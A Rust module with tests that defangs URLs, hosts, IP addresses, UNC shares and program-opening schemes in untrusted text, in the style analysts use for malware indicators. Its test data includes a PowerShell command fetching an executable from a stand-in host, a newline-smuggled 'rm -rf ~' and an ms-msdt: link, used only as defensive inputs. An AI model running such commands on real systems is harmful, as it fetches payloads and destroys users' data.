//! Defangs addresses: words that a browser, chat client or mail program opens or makes a link.
//!
//! A word is an address if it contains `://`, a scheme that opens a program, a UNC share or an IPv6
//! address; or, outside of a path, a name with dots that
//! - ends in a top-level domain that exists, or in letters of another script,
//! - or begins with `www.`, or follows `@`,
//! - or is four numbers.
//!
//! A path begins after a backslash, or a slash that is not the second of two. `setup.exe` and
//! `java.lang.String` are not addresses, but `payload.zip` is: `zip` is a top-level domain.

use super::escape::{CharRole, reads_as_escape, role};
use super::untrusted::Visible;
use std::net::Ipv6Addr;
use std::sync::LazyLock;

/// Schemes that programs turn into links, and what analysts write instead.
const SCHEMES: [(&str, &str); 3] = [("https", "hxxps"), ("http", "hxxp"), ("ftp", "fxp")];

/// Separators in an address; browsers take the ideographic full stops as dots too.
const JOINTS: [char; 6] = ['.', ':', '@', '\u{3002}', '\u{ff0e}', '\u{ff61}'];

/// Returns a URL, host or address as it was before it was defanged.
pub fn refanged(text: &str) -> String {
    let plain = SCHEMES.iter().find_map(|(plain, safe)| {
        let rest = text.strip_prefix(safe).filter(|rest| rest.starts_with([':', '[']))?;
        Some(format!("{plain}{rest}"))
    });
    let text = plain.unwrap_or_else(|| text.to_owned());
    JOINTS.iter().fold(text, |text, joint| text.replace(&format!("[{joint}]"), &joint.to_string()))
}

impl Visible {
    /// Defangs a URL, host or address, for copying; a second time changes nothing.
    ///
    /// A leading `http`, `https` or `ftp` becomes `hxxp`, `hxxps` or `fxp`; dots, colons and at
    /// signs get brackets: `http://a.example:80` becomes `hxxp[:]//a[.]example[:]80`.
    pub fn defanged(&self) -> Visible {
        let (scheme, rest) = split_scheme(self.as_str());
        let mut text = scheme.to_owned();
        let mut brackets = 0;
        let mut previous = None;
        let mut rest = rest.chars().peekable();
        while let Some(character) = rest.next() {
            let is_safe = previous == Some('[') && rest.peek() == Some(&']');
            if JOINTS.contains(&character) && !is_safe {
                text.extend(['[', character, ']']);
                brackets += 2;
            } else {
                text.push(character);
            }
            previous = Some(character);
        }
        // A scheme and its harmless form are equally wide.
        Visible { text, columns: self.width() + brackets }
    }

    /// Defangs every address in a text of any kind: a path, a command, a host.
    pub fn disarmed(&self) -> Visible {
        self.disarmed_where(false)
    }

    /// Defangs a text; in an attribute of hosts every name with a dot is a host.
    pub fn disarmed_where(&self, is_among_hosts: bool) -> Visible {
        let mut disarmed = String::with_capacity(self.as_str().len());
        // Brackets are all that is added, a column each.
        let mut added = 0;
        let mut rest = self.as_str();
        while !rest.is_empty() {
            let (word, after) = rest.split_at(rest.find(is_separator).unwrap_or(rest.len()));
            if is_address(word, is_among_hosts) {
                let safe = Visible { text: word.to_owned(), columns: 0 }.defanged();
                added += safe.width();
                disarmed.push_str(safe.as_str());
            } else {
                disarmed.push_str(word);
            }
            let end = after.find(|c: char| !is_separator(c)).unwrap_or(after.len());
            let (border, next) = after.split_at(end);
            disarmed.push_str(border);
            rest = next;
        }
        Visible { text: disarmed, columns: self.width() + added }
    }
}

/// Splits off a leading scheme; returns its harmless form and the rest.
fn split_scheme(text: &str) -> (&'static str, &str) {
    let found = SCHEMES.iter().find_map(|(scheme, harmless)| {
        let (start, rest) = text.split_at_checked(scheme.len())?;
        let is_scheme = rest.starts_with("://") || rest.starts_with("[:]//");
        (start.eq_ignore_ascii_case(scheme) && is_scheme).then_some((*harmless, rest))
    });
    found.unwrap_or(("", text))
}

/// Characters that separate words, beside blanks.
const SEPARATORS: [char; 12] = ['"', '\'', '`', '<', '>', '(', ')', '{', '}', ',', ';', '|'];

/// The full stop, and the characters that browsers treat as one in names.
const DOTS: [char; 4] = ['.', '\u{3002}', '\u{ff0e}', '\u{ff61}'];

/// Characters that end a path within a word, so that a host can follow; others may name a file.
const PATH_ENDS: [char; 10] = ['=', '&', '^', '*', '[', ']', ':', '?', '#', '@'];

/// Schemes that open a program without `//`, as does every one that begins with `ms-`.
const OPENING_SCHEMES: &str = "http https ftp mailto javascript vbscript data file tel sms magnet \
    search search-ms shell mhtml";

/// Top-level labels of examples, private networks and overlay networks.
const OTHER_TLDS: &str = "example test invalid localhost local localdomain lan home corp \
    internal intranet i2p bit";

/// The top-level domains that exist, in order.
static TLDS: LazyLock<Vec<&str>> =
    LazyLock::new(|| include_str!("../../assets/top-level-domains.txt").split_whitespace().collect());

/// Returns whether a character separates words.
fn is_separator(c: char) -> bool {
    c.is_whitespace() || SEPARATORS.contains(&c)
}

/// Returns whether a word is an address; among hosts any name with a dot is, even a file's.
fn is_address(word: &str, is_among_hosts: bool) -> bool {
    let is_address = |piece: &str| {
        let is_host = |name: &str| is_host(name) || is_among_hosts && last_label(name).chars().any(char::is_alphabetic);
        contains_unc_share(piece) || contains_ipv6(piece) || contains_host(piece, &is_host)
    };
    word.contains("://") || pieces(word).into_iter().any(is_address)
}

/// Splits a word at its escapes of hidden characters.
fn pieces(word: &str) -> Vec<&str> {
    let mut pieces = Vec::new();
    let mut begin = 0;
    for (at, _) in word.match_indices('\\') {
        if word.get(at + 1..).is_some_and(is_escape) {
            pieces.extend(word.get(begin..at));
            begin = (at + ESCAPE_COLUMNS).min(word.len());
        }
    }
    pieces.extend(word.get(begin..));
    pieces
}

/// Columns of `\x1b`; as the braces of `\u{202e}` are borders, only two of its columns count.
const ESCAPE_COLUMNS: usize = 4;

/// Returns whether text after a backslash belongs to an escape, not to a path: `\x5c` is a
/// backslash itself, and a letter alone may have been cut off before a brace.
fn is_escape(rest: &str) -> bool {
    matches!(rest, "x" | "u") || reads_as_escape(rest.as_bytes()) && !rest.starts_with("x5c")
}

/// Returns whether a piece has a scheme that opens a program, or a host outside of a path.
fn contains_host(piece: &str, is_host: &dyn Fn(&str) -> bool) -> bool {
    let mut is_in_path = false;
    let mut before = None;
    let mut rest = piece;
    loop {
        let (name, after) = rest.split_at(rest.find(|c| !is_name_character(c)).unwrap_or(rest.len()));
        if !is_in_path && (opens_program(name, after) || names(name).any(|name| before == Some('@') || is_host(name))) {
            return true;
        }
        let mut letters = after.chars();
        let Some(border) = letters.next() else { return false };
        is_in_path = match border {
            '\\' => true,
            '/' => !(name.is_empty() && before == Some('/')),
            _ => is_in_path && !PATH_ENDS.contains(&border),
        };
        before = Some(border).filter(|_| !letters.as_str().is_empty());
        rest = letters.as_str();
    }
}

fn is_name_character(c: char) -> bool {
    c.is_alphanumeric()
        || matches!(c, '-' | '_')
        || DOTS.contains(&c)
        || !c.is_ascii() && matches!(role(c), CharRole::Mark(_))
}

/// Returns whether a name is a scheme that opens the text after it.
fn opens_program(name: &str, after: &str) -> bool {
    let scheme = name.trim_start_matches(|c| DOTS.contains(&c) || matches!(c, '-' | '_')).to_ascii_lowercase();
    let is_known = OPENING_SCHEMES.split(' ').any(|known| known == scheme)
        || scheme.strip_prefix("ms-").is_some_and(|rest| !rest.is_empty());
    is_known && after.strip_prefix(':').is_some_and(|rest| !rest.is_empty())
}

/// Splits a run of name characters into names with dots; two dots in a row separate names.
fn names(name: &str) -> impl Iterator<Item = &str> {
    let names = name.split("..").map(|name| name.trim_matches(|c| DOTS.contains(&c) || matches!(c, '-' | '_')));
    names.filter(|name| name.contains(DOTS))
}

fn is_host(name: &str) -> bool {
    let begins_so = |start: &str| name.get(..start.len()).is_some_and(|begin| begin.eq_ignore_ascii_case(start));
    let last = last_label(name).to_lowercase();
    // A part joined by a dash may belong to the surrounding text.
    let first = last.split('-').next().unwrap_or_default();
    is_tld(&last) || is_tld(first) || begins_so("www.") || name.split(['-', '_']).any(is_ipv4)
}

fn last_label(name: &str) -> &str {
    name.rsplit(DOTS).next().unwrap_or_default()
}

fn is_tld(label: &str) -> bool {
    let is_of_another_script = !label.is_ascii() && !label.chars().any(|c| c.is_numeric());
    let is_known = || TLDS.binary_search(&label).is_ok() || OTHER_TLDS.split(' ').any(|known| known == label);
    is_of_another_script || label.starts_with("xn--") || is_known()
}

fn is_ipv4(name: &str) -> bool {
    let is_number = |label: &str| (1..=3).contains(&label.len()) && label.bytes().all(|digit| digit.is_ascii_digit());
    name.split(DOTS).count() == 4 && name.split(DOTS).all(is_number)
}

/// Returns whether a piece contains an IPv6 address, also behind a prefix with a colon.
fn contains_ipv6(piece: &str) -> bool {
    // The unspecified address is two colons, which source code contains as well.
    let is_address = |text: &str| text != "::" && text.parse::<Ipv6Addr>().is_ok();
    let tokens = piece.split(|c: char| !(c.is_alphanumeric() || matches!(c, ':' | '.')));
    let tokens = tokens.filter(|token| token.matches(':').take(2).count() == 2);
    let mut behind = tokens.flat_map(|token| {
        let colons = token.match_indices(':').filter_map(|(at, _)| token.get(at + 1..));
        std::iter::once(token).chain(colons)
    });
    behind.any(|text| {
        is_address(text) || is_address(text.trim_end_matches('.')) || is_address(text.trim_end_matches(':'))
    })
}

/// Returns whether a piece contains a UNC share, which programs open: `\\host.example\share`.
fn contains_unc_share(piece: &str) -> bool {
    let begins = |(at, _): &(usize, &str)| {
        let before = piece.get(..*at).and_then(|before| before.chars().next_back());
        before.is_none_or(|before| !before.is_alphanumeric() && !matches!(before, '\\' | ':' | '.' | '_'))
    };
    piece.match_indices(r"\\").filter(begins).any(|(at, _)| {
        let share = piece.get(at..).unwrap_or_default().trim_start_matches('\\');
        let share = share.strip_prefix(r"?\UNC\").unwrap_or(share);
        let machine = share.split(['\\', '/', '@']).next().unwrap_or_default();
        machine.trim_matches('.').contains('.')
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::text::Untrusted;
    use proptest::prelude::*;

    fn disarmed(text: &str) -> String {
        Untrusted::from(text).visible().disarmed().into()
    }

    #[test]
    fn text_without_addresses_is_unchanged() {
        for text in [
            "com.example.app.MainActivity java.lang.String android.permission.READ_SMS",
            "std::fs::File [System.Reflection.Assembly]::LoadFile Foo::Bar",
            "setup.exe a.dll kernel32.dll deck.pptx stage.js x.docx~ 1.2.3 10.0.19041.1 a.b.c",
            r"C:\Users\a\~$report.zip C:\a\b.com \AppData\evil.zip %TEMP%\a+b.sh \\?\C:\a.com \\.\pipe\a.com",
            r"C:\Program Files (x86)\My App, v2; final\setup[1].exe C:\a\My report, part 2.docx",
            r"C:\\Users\\evil.com /usr/lib/a.so /data/app/~~a==/base.apk src/main.rs C:/Users/a.com",
            "00:1a:2b:3c:4d:5e 12:30:45 a=b std:: :: .NET ...",
        ] {
            assert_eq!(disarmed(text), text);
        }
    }

    #[test]
    fn every_top_level_domain_is_a_label_in_lower_case() {
        for top in TLDS.iter().copied().chain(OTHER_TLDS.split(' ')) {
            assert!(top.len() >= 2 && top.bytes().all(|byte| byte.is_ascii_lowercase() || byte == b'2'), "{top}");
        }
        assert!(TLDS.len() > 1_300 && TLDS.windows(2).all(|pair| pair[0] < pair[1]));
    }

    /// Returns a name with dots that a resolver is asked for.
    fn host() -> impl Strategy<Value = String> {
        let top = prop::sample::select(TLDS.iter().copied().chain(OTHER_TLDS.split(' ')).collect::<Vec<_>>())
            .prop_map(str::to_owned);
        let top = prop_oneof![8 => top, 1 => Just("xn--p1ai".to_owned()), 1 => Just("рф".to_owned())];
        let host = ("[a-z0-9]([a-z0-9_-]{0,6}[a-z0-9])?(\\.[a-z0-9]{1,5}){0,2}", top, any::<bool>());
        host.prop_map(|(name, top, is_loud)| {
            let name = format!("{name}.{top}");
            if is_loud { name.to_uppercase() } else { name }
        })
    }

    /// Returns what programs make links of.
    fn link() -> impl Strategy<Value = String> {
        let numbers = any::<[u8; 4]>().prop_map(|[a, b, c, d]| format!("{a}.{b}.{c}.{d}"));
        let six = any::<[u16; 8]>().prop_map(|parts| Ipv6Addr::from(parts).to_string());
        let place = prop_oneof![4 => host(), 1 => numbers.clone(), 1 => six.clone().prop_map(|six| format!("[{six}]"))];
        let url =
            ("(https?|ftp|wss|HTTP|tg|market)", place, "(:[0-9]{2,4})?(/[a-z0-9._~-]{0,8}){0,2}(\\?q=[a-z.]{0,4})?");
        prop_oneof![
            3 => host(),
            1 => numbers,
            1 => six,
            1 => "www\\.[a-z]{1,8}",
            1 => ("[a-z.]{1,6}[a-z]", host()).prop_map(|(user, host)| format!("{user}@{host}")),
            1 => ("(mailto|tel|javascript|Data|ms-word)", "[a-z0-9]{1,6}").prop_map(|(scheme, rest)| format!("{scheme}:{rest}")),
            2 => url.prop_map(|(scheme, place, path)| format!("{scheme}://{place}{path}")),
        ]
    }

    /// Text that may surround a link.
    const BEFORE: [&str; 22] = [
        "", "see ", "(", "[", "[x](", "*", "**", "_", "~", "~~", ">", "<", "=", "\"", "'", "`", "“", "«", "→", "x, ",
        "#", "$",
    ];
    const BEHIND: [&str; 24] = [
        "", " it", ")", "]", "*", "**", "_", "~", "<", ">", "\"", "'s", "`", "”", "»", "→x", ",x", ";", "!", "?", ".",
        "...", "…", "。",
    ];

    proptest! {
        #[test]
        fn any_link_is_defanged_and_only_once(
            link in link(),
            before in prop::sample::select(&BEFORE[..]),
            behind in prop::sample::select(&BEHIND[..]),
        ) {
            let text = format!("{before}{link}{behind}");
            let shown = disarmed(&text);
            let is_live = |(at, joint): (usize, char)| {
                let safe = shown[..at].ends_with('[') && shown[at + joint.len_utf8()..].starts_with(']');
                matches!(joint, ':' | '@') && !safe
                    || joint == '.' && !safe && shown[at + 1..].starts_with(|c: char| c.is_alphanumeric())
            };
            prop_assert!(!shown.char_indices().any(is_live), "{} becomes {}", text, shown);
            prop_assert_eq!(disarmed(&shown), shown.clone());
        }
    }
}

#[cfg(test)]
mod defang_tests {
    use crate::text::Untrusted;

    fn defanged(text: &str) -> String {
        Untrusted::from(text).visible().defanged().into()
    }

    #[test]
    fn addresses_in_text_are_defanged_paths_are_not() {
        for (text, harmless) in [
            (r"C:\Users\a\stage.js", r"C:\Users\a\stage.js"),
            ("svchost.exe", "svchost.exe"),
            (
                "powershell -c iwr http://a.example/x.exe -o x.exe",
                "powershell -c iwr hxxp[:]//a[.]example/x[.]exe -o x.exe",
            ),
            ("ping a.example:80 (192.0.2.1)", "ping a[.]example[:]80 (192[.]0[.]2[.]1)"),
            ("me@mail.example", "me[@]mail[.]example"),
            ("a.example → 192.0.2.7", "a[.]example → 192[.]0[.]2[.]7"),
            ("WMI:Win32_Process", "WMI:Win32_Process"),
            ("evil.xn--p1ai EVIL.XN--P1AI.", "evil[.]xn--p1ai EVIL[.]XN--P1AI[.]"),
            ("//evil.example/x", "//evil[.]example/x"),
            ("[2001:db8::1]:80", "[2001[:]db8[:][:]1][:]80"),
            ("mailto:a@b.example =c@d.example", "mailto[:]a[@]b[.]example =c[@]d[.]example"),
            ("=a.example #b.example c.example!", "=a[.]example #b[.]example c[.]example!"),
            (
                "a.example\u{7} b\u{202e}.c.example 192.0.2.1\u{1}",
                r"a[.]example\x07 b\u{202e}[.]c[.]example 192[.]0[.]2[.]1\x01",
            ),
            (r"http:a.example HTTP:\\b.example", r"http[:]a[.]example HTTP[:]\\b[.]example"),
            (
                r"\\192.0.2.1\share\x \\b.example@SSL\x \\host\share.x",
                r"\\192[.]0[.]2[.]1\share\x \\b[.]example[@]SSL\x \\host\share.x",
            ),
            ("ms-msdt:/id javascript:alert tel:1 data:", "ms-msdt[:]/id javascript[:]alert tel[:]1 data:"),
            (r"C:\x64\a.b.c.net %TEMP%\a.js", r"C:\x64\a.b.c.net %TEMP%\a.js"),
            (r#"[Enum]::"Any" .NET. nEt.WebClient"#, r#"[Enum]::"Any" .NET. nEt.WebClient"#),
            ("kernel32.dll setup.exe a.zip /usr/lib/a.so 1.2.3", "kernel32.dll setup.exe a[.]zip /usr/lib/a.so 1.2.3"),
            ("[a.example](b.example) _c.example_ www.d", "[a[.]example](b[.]example) _c[.]example_ www[.]d"),
            ("192.0.2.1-192.0.2.9 tcp:2001:db8::1", "192[.]0[.]2[.]1-192[.]0[.]2[.]9 tcp[:]2001[:]db8[:][:]1"),
        ] {
            let found = Untrusted::from(text).visible().disarmed();
            assert_eq!(found.as_str(), harmless);
            assert_eq!(found.width(), found.as_str().chars().count());
        }
    }

    #[test]
    fn names_among_hosts_are_defanged_for_any_suffix() {
        for (text, harmless) in [
            ("payload.zip", "payload[.]zip"),
            ("evil.so → 192.0.2.7", "evil[.]so → 192[.]0[.]2[.]7"),
            ("GET //evil.doc/x", "GET //evil[.]doc/x"),
            (r"1.2 C:\a.zip /x/a.so tcp", r"1.2 C:\a.zip /x/a.so tcp"),
        ] {
            assert_eq!(Untrusted::from(text).visible().disarmed_where(true).as_str(), harmless);
        }
    }

    #[test]
    fn addresses_are_defanged() {
        for (address, harmless) in [
            ("http://a.example/x.exe", "hxxp[:]//a[.]example/x[.]exe"),
            ("HTTPS://A.example:8443", "hxxps[:]//A[.]example[:]8443"),
            ("ftp://u@h", "fxp[:]//u[@]h"),
            ("http[:]//half.done", "hxxp[:]//half[.]done"),
            ("http.example", "http[.]example"),
            ("192.0.2.1", "192[.]0[.]2[.]1"),
            ("2001:db8::1", "2001[:]db8[:][:]1"),
            ("me@mail.example", "me[@]mail[.]example"),
            ("evil\u{3002}example", "evil[\u{3002}]example"),
            ("a.b\r\nrm -rf ~", r"a[.]b\x0d\x0arm -rf ~"),
            ("", ""),
        ] {
            assert_eq!(defanged(address), harmless);
        }
    }
}
